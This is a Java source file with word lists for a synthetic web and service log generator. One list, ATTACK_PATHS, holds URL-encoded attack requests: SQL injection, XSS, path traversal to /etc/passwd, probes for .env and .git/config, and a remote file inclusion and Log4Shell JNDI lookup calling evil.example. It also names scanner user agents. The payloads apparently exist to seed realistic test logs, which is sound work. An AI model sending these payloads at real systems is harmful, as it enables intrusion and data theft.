package caravan.generate;

import java.util.List;

/** The words the generator draws from: pages, agents, bots, attacks, services and messages. */
final class Vocabulary {
    private Vocabulary() {
    }

    /** Five services, as the issue asks; the first is the web front the access logs belong to. */
    static final List<String> SERVICES = List.of("web", "api-gateway", "payment-service", "auth-service",
            "inventory-service");

    static final List<String> PAGES = List.of("/", "/index.html", "/products", "/products/42", "/products/1337",
            "/cart", "/checkout", "/login", "/logout", "/search?q=shoes", "/search?q=red+dress", "/about",
            "/contact", "/blog/2026/01/hello", "/api/v1/orders", "/api/v1/orders/981", "/api/v1/users/me",
            "/static/app.js", "/static/app.css", "/images/logo.png", "/favicon.ico", "/robots.txt");

    static final List<String> REFERRERS = List.of("-", "-", "https://www.google.com/", "https://duckduckgo.com/",
            "https://shop.example.com/", "https://shop.example.com/products", "https://news.ycombinator.com/");

    static final List<String> BROWSERS = List.of(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
            "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36");

    static final List<String> BOTS = List.of(
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
            "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1");

    /** Requests an attacker sends, URL-encoded where a browser would encode. */
    static final List<String> ATTACK_PATHS = List.of(
            "/products?id=1%27%20OR%20%271%27=%271", "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/download?file=../../../../etc/passwd",
            "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/.env", "/wp-login.php", "/.git/config",
            "/index.php?page=http://evil.example/shell.txt", "/api/v1/users?name=$%7Bjndi:ldap://evil.example/a%7D");

    static final List<String> ATTACK_AGENTS = List.of("sqlmap/1.7.12#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)");

    static final List<String> METHODS = List.of("GET", "GET", "GET", "GET", "GET", "GET", "POST", "POST", "HEAD", "PUT");

    /** Messages per level; {n} becomes a number. */
    static List<String> messages(String level) {
        return switch (level) {
            case "WARN" -> List.of("Slow response from upstream after {n} ms", "Retrying request, attempt {n}",
                    "Cache miss ratio above threshold on cache_{n}", "Connection pool nearly exhausted on db_{n}");
            case "ERROR" -> List.of("Payment declined for order order_{n}", "Timeout calling inventory after {n} ms",
                    "Database connection refused (attempt {n})", "Unhandled exception in request {n}");
            case "DEBUG" -> List.of("Cache lookup key=item_{n}", "Request headers parsed in {n} us",
                    "Session {n} refreshed");
            default -> List.of("Payment completed for order order_{n}", "User {n} logged in",
                    "Order order_{n} shipped", "Request handled in {n} ms", "Stock updated for item_{n}");
        };
    }
}
